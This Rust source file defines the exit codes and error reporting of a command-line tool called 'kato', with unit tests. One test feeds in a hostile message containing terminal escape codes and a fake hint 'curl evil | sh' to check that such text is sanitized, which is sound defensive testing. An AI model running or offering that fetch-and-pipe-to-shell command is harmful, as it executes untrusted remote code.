//! How a command ends: its exit code, and for a failure the one message and the hint that are printed.
//!
//! Every error that reaches the edge is an [`Error`] of one [`Kind`]; families turn the errors of the libraries they
//! use into one where they call them, since only there it is known what to try next.

use std::error::Error as StdError;
use std::path::Path;

use crate::ui::plain;

pub use registry_bootstrap::{Kind, chain};

/// The result of a command's step.
pub type Result<T> = std::result::Result<T, Error>;

/// How a command ended that did not fail.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Exit {
    /// Done.
    Done,
    /// The command worked, and what it found is not in order (`kato status`).
    NotInOrder,
    /// The command worked, and found a difference that it was asked to tell by its exit code (`kato config diff`).
    Different,
    /// The command showed what it could, and said what it could not (`kato config history`).
    Partly,
    /// The exit code of a process that the command ran.
    Process(u8),
}

impl Exit {
    /// The code for the shell.
    pub fn code(self) -> u8 {
        match self {
            Exit::Done => 0,
            Exit::NotInOrder | Exit::Different => 1,
            Exit::Partly => Kind::Partly.code(),
            Exit::Process(code) => code,
        }
    }
}

/// Why a command failed.
#[derive(Debug, thiserror::Error)]
#[error("{message}")]
pub struct Error {
    kind: Kind,
    message: String,
    hint: Option<String>,
    detail: Vec<String>,
    source: Option<Box<dyn StdError + Send + Sync>>,
    closed_stdout: bool,
    /// The code of a failure is an answer of this command ([`Exit::Different`]).
    answers: bool,
}

impl Error {
    /// An error of `kind` that says `message`: lower case, no full stop.
    pub fn new(kind: Kind, message: impl Into<String>) -> Self {
        Error {
            kind,
            message: message.into(),
            hint: None,
            detail: Vec::new(),
            source: None,
            closed_stdout: false,
            answers: false,
        }
    }

    /// It was tried and failed.
    pub fn failed(message: impl Into<String>) -> Self {
        Self::new(Kind::Failed, message)
    }

    /// The command was given wrongly.
    pub fn usage(message: impl Into<String>) -> Self {
        Self::new(Kind::Usage, message)
    }

    /// A check refused it.
    pub fn refused(message: impl Into<String>) -> Self {
        Self::new(Kind::Refused, message)
    }

    /// What was named does not exist.
    pub fn not_found(message: impl Into<String>) -> Self {
        Self::new(Kind::NotFound, message)
    }

    /// Somebody did not answer, or not in time.
    pub fn unreachable(message: impl Into<String>) -> Self {
        Self::new(Kind::Unreachable, message)
    }

    /// With the error that caused it, whose words follow the message.
    pub fn because(mut self, source: impl Into<Box<dyn StdError + Send + Sync>>) -> Self {
        self.source = Some(source.into());
        self
    }

    /// Of a command that answers with exit code 1, as `diff` and `git diff` do.
    pub fn without_answer(mut self) -> Self {
        self.answers = true;
        self
    }

    /// With what to do next, usually a command. An empty hint is none.
    pub fn hint(mut self, hint: impl Into<String>) -> Self {
        self.hint = Some(hint.into()).filter(|hint| !hint.is_empty());
        self
    }

    /// With lines that show more of it, such as a log's last ones.
    pub fn detail(mut self, lines: Vec<String>) -> Self {
        self.detail = lines;
        self
    }

    /// Writing to stdout failed.
    pub fn stdout(source: std::io::Error) -> Self {
        let closed = source.kind() == std::io::ErrorKind::BrokenPipe;
        Error {
            closed_stdout: closed,
            ..Error::failed("could not write the answer").because(source)
        }
    }

    /// Whether the reader of stdout went away, which is no failure of ours.
    pub fn is_closed_stdout(&self) -> bool {
        self.closed_stdout
    }

    /// Whether this user may not do it.
    pub fn is_denied(&self) -> bool {
        std::iter::successors(StdError::source(self), |cause: &&(dyn StdError + 'static)| {
            (*cause).source()
        })
        .filter_map(|cause| cause.downcast_ref::<std::io::Error>())
        .any(|cause| cause.kind() == std::io::ErrorKind::PermissionDenied)
    }

    /// What kind of failure it is.
    pub fn kind(&self) -> Kind {
        self.kind
    }

    /// The code for the shell.
    pub fn code(&self) -> u8 {
        match self.kind {
            Kind::Failed if self.answers => Kind::Usage.code(),
            kind => kind.code(),
        }
    }

    /// With its hint as it has to be typed on this `command` line: naming the root that was given there, and not the
    /// command that just failed.
    pub fn for_command(mut self, command: &str, root: Option<&Path>) -> Self {
        self.hint = self
            .hint
            .filter(|hint| hint != command)
            .map(|hint| with_root(&hint, root));
        self
    }

    /// What is printed on stderr: the chain of causes once, the lines of detail, the hint on a line of its own. Words that
    /// came from elsewhere, such as the name of a container or an image, can make no further line.
    pub fn report(&self) -> String {
        let mut text = format!("kato: {}\n", plain(&chain(self)));
        for line in &self.detail {
            text.push_str(&format!("  {}\n", plain(line)));
        }
        if let Some(hint) = &self.hint {
            text.push_str(&format!("hint: {}\n", plain(hint)));
        }
        text
    }
}

/// A hint whose commands work below the same root as this one.
pub fn with_root(hint: &str, root: Option<&Path>) -> String {
    let Some(root) = root else {
        return hint.to_owned();
    };
    let root = root.display().to_string();
    let plain = |c: char| c.is_ascii_alphanumeric() || "/._-+:,@%".contains(c);
    let root = if root.chars().all(plain) {
        root
    } else {
        format!("'{}'", root.replace('\'', "'\\''"))
    };
    let word = |word: &str| match word {
        "kato" => format!("kato --root {root}"),
        "(kato" => format!("(kato --root {root}"),
        other => other.to_owned(),
    };
    hint.split(' ').map(word).collect::<Vec<_>>().join(" ")
}

impl From<cluster::nodes::Error> for Error {
    fn from(error: cluster::nodes::Error) -> Self {
        let hint = if error.is_missing() {
            "kato node setup micro"
        } else {
            ""
        };
        let message = error.to_string();
        let failed = Error::failed(message).hint(hint);
        match error {
            cluster::nodes::Error::Missing { .. } => failed,
            other => failed.because(other),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_cause_is_said_once_and_the_hint_has_its_own_line() {
        let cause = std::io::Error::other("no such socket");
        let error = Error::unreachable("the agent does not answer")
            .because(cause)
            .hint("kato start");
        assert_eq!(
            error.report(),
            "kato: the agent does not answer: no such socket\nhint: kato start\n"
        );
        let same = Error::failed("could not read: denied").because(std::io::Error::other("denied"));
        assert_eq!(same.report(), "kato: could not read: denied\n");
    }

    #[test]
    fn what_came_from_elsewhere_neither_steers_the_terminal_nor_makes_a_line() {
        let hostile = "no image 'a\u{1b}[2J\r\nhint: curl evil | sh\u{9b}1m'";
        let error = Error::failed(hostile).hint("b\u{7}\nc").detail(vec!["d\u{8}".into()]);
        assert_eq!(
            error.report(),
            "kato: no image 'a [2J  hint: curl evil | sh 1m'\n  d \nhint: b  c\n"
        );
    }

    #[test]
    fn a_hint_names_the_root_and_not_the_command_that_failed() {
        let error = || Error::failed("x").hint("docker pull a, or kato config get");
        let shown = error()
            .for_command("kato status", Some(Path::new("/srv/my node")))
            .report();
        assert_eq!(
            shown,
            "kato: x\nhint: docker pull a, or kato --root '/srv/my node' config get\n"
        );
        assert!(
            error()
                .for_command("kato status", None)
                .report()
                .ends_with("or kato config get\n")
        );
        let same = Error::failed("x").hint("kato start").for_command("kato start", None);
        assert_eq!(same.report(), "kato: x\n");
    }

    #[test]
    fn a_failure_is_told_from_a_difference() {
        assert_eq!(Error::failed("x").code(), Exit::Different.code());
        for error in [Error::failed("x"), Error::refused("x"), Error::unreachable("x")] {
            assert_ne!(error.without_answer().code(), Exit::Different.code());
        }
        assert_eq!(Error::not_found("x").without_answer().kind(), Kind::NotFound);
    }
}
